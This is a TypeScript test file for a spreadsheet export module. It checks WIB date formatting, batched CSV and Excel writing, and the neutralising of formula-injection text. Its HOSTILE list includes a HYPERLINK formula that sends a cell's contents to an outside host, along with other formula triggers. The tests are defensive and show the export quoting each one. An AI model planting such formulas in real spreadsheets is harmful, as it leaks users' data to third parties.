// The export writer's dates: WIB wall-clock in CSV as DD/MM/YYYY [HH.mm WIB], in Excel as real dates;
// and its cells: no text runs as a formula, numbers stay numbers (issue #30).

import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { diawaliRumus, netral, selAman } from './formula.js';
import { type ExportColumn, formatCsvDate, wallClock, writeCsv, writeXlsx } from './sheet.js';

interface Row {
  nama: string;
  lahir: string;
  waktu: string | null;
}
const COLUMNS: ExportColumn<Row>[] = [
  { header: 'Nama', width: 10, value: (row) => row.nama },
  { header: 'Lahir', width: 10, kind: 'date', value: (row) => row.lahir },
  { header: 'Waktu', width: 10, kind: 'datetime', value: (row) => row.waktu },
];
const ROWS: Row[] = [
  { nama: 'Siti; "Ani"', lahir: '1990-02-28', waktu: '2024-09-05T21:21:00' },
  { nama: 'Budi', lahir: '1985-12-01', waktu: null },
];

async function* batches() {
  yield ROWS;
}

async function* of<T>(rows: T[]) {
  yield rows;
}

async function collect(produce: (out: PassThrough) => Promise<void>): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(Buffer.from(chunk)));
  const done = new Promise((resolve) => out.on('end', resolve));
  await produce(out);
  await done;
  return Buffer.concat(chunks);
}

describe('export sheet', () => {
  it('reads WIB wall-clock as is, and an instant with an offset on the WIB clock', () => {
    expect(wallClock('2024-09-05T21:21:00')?.toISOString()).toBe('2024-09-05T21:21:00.000Z');
    expect(wallClock('2024-09-05T14:21:00Z')?.toISOString()).toBe('2024-09-05T21:21:00.000Z');
    expect(wallClock('bukan tanggal')).toBeNull();
    expect(formatCsvDate('2024-09-05', 'date')).toBe('05/09/2024');
    expect(formatCsvDate('2024-09-05T21:21:00', 'datetime')).toBe('05/09/2024 21.21 WIB');
    expect(formatCsvDate('2024-09-05T14:21:00Z', 'datetime')).toBe('05/09/2024 21.21 WIB');
    expect(formatCsvDate(null, 'date')).toBe('');
  });

  it('writes CSV with DD/MM/YYYY dates and quoted cells', async () => {
    const text = (await collect((out) => writeCsv(out, COLUMNS, batches()))).toString('utf8');
    expect(text.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
      'Nama;Lahir;Waktu',
      '"Siti; ""Ani""";28/02/1990;05/09/2024 21.21 WIB',
      'Budi;01/12/1985;',
      '',
    ]);
  });

  it('writes Excel dates as dates with an Indonesian format, not as text', async () => {
    const file = await collect((out) => writeXlsx(out, COLUMNS, batches(), 'Uji'));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]?.getRow(2);
    expect(row?.getCell(2).value).toEqual(new Date('1990-02-28T00:00:00Z'));
    expect(row?.getCell(2).numFmt).toBe('dd/mm/yyyy');
    expect(row?.getCell(3).value).toEqual(new Date('2024-09-05T21:21:00Z'));
    expect(row?.getCell(3).numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(workbook.worksheets[0]?.getRow(3).getCell(3).value).toBeNull();
  });
});

describe('a large export and the event loop (issue #33)', () => {
  /**
   * Batches of 2,000 rows as the embedded database gives them (promises already settled: no turn
   * of the event loop between them), and how many turns had passed once every row was written.
   */
  function batchesCounted(count: number) {
    const seen = { turns: 0, whenWritten: -1 };
    let counting = true;
    const tick = () => {
      if (!counting) return;
      seen.turns += 1;
      setImmediate(tick);
    };
    setImmediate(tick);
    async function* rows() {
      for (let b = 0; b < count; b++) {
        yield Array.from({ length: 2_000 }, (_, i) => ({
          nama: `Pelamar ${b}-${i}`,
          lahir: '1990-02-28',
          waktu: '2024-09-05T21:21:00',
        }));
      }
      seen.whenWritten = seen.turns;
      counting = false;
    }
    return { seen, rows: rows() };
  }

  it('writes Excel rows in slices, the event loop turning at least once a batch', async () => {
    const { seen, rows } = batchesCounted(5);
    await collect((out) => writeXlsx(out, COLUMNS, rows, 'Uji'));
    expect(seen.whenWritten).toBeGreaterThanOrEqual(5);
  });

  it('writes CSV rows in slices too', async () => {
    const { seen, rows } = batchesCounted(10);
    const text = (await collect((out) => writeCsv(out, COLUMNS, rows))).toString('utf8');
    expect(text.split('\r\n')).toHaveLength(1 + 20_000 + 1);
    expect(seen.whenWritten).toBeGreaterThan(0);
  });
});

describe('formula text in exports (issue #30)', () => {
  const HOSTILE = [
    '=HYPERLINK("https://contoh.id/?d="&A1,"Lihat")',
    '+62 812',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ];

  it('prefixes a single quote to text a spreadsheet would run, and to nothing else', () => {
    for (const text of HOSTILE) {
      expect(diawaliRumus(text), text).toBe(true);
      expect(netral(text)).toBe(`'${text}`);
    }
    for (const text of ['Siti', '3171012505990001', ' =1', "'=1", 'a=b', '']) expect(netral(text)).toBe(text);
    expect(selAman(-5)).toBe(-5);
    expect(selAman(null)).toBeNull();
  });

  interface Baris {
    teks: string;
    angka: number;
  }
  const columns: ExportColumn<Baris>[] = [
    { header: 'Teks', width: 10, value: (row) => row.teks },
    { header: 'Angka', width: 10, value: (row) => row.angka },
  ];
  const rows: Baris[] = HOSTILE.map((teks, i) => ({ teks, angka: -(i + 1) }));

  it('writes CSV whose cells are the text quoted, and negative numbers as numbers', async () => {
    const text = (await collect((out) => writeCsv(out, columns, of(rows)))).toString('utf8');
    const records = parse(text, { bom: true, delimiter: ';', columns: true, relax_quotes: true }) as Record<
      string,
      string
    >[];
    expect(records.map((r) => r.Teks)).toEqual(HOSTILE.map((t) => `'${t}`));
    expect(records.map((r) => r.Angka)).toEqual(rows.map((r) => String(r.angka)));
  });

  it('quotes a CSV cell holding a comma, so a reader splitting on commas does not start a cell mid-text', async () => {
    const text = (await collect((out) => writeCsv(out, columns, of([{ teks: 'Budi,=1+1', angka: 1 }])))).toString(
      'utf8',
    );
    expect(text.split('\r\n')[1]).toBe('"Budi,=1+1";1');
  });

  it('writes Excel cells as text with the quote, never as formulas; numbers as numbers', async () => {
    const file = await collect((out) => writeXlsx(out, columns, of(rows), 'Uji'));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    HOSTILE.forEach((text, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed.
      expect(row.getCell(1).value).toBe(`'${text}`.replace('\r', '\n'));
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(2).value).toBe(-(i + 1));
    });
  });
});
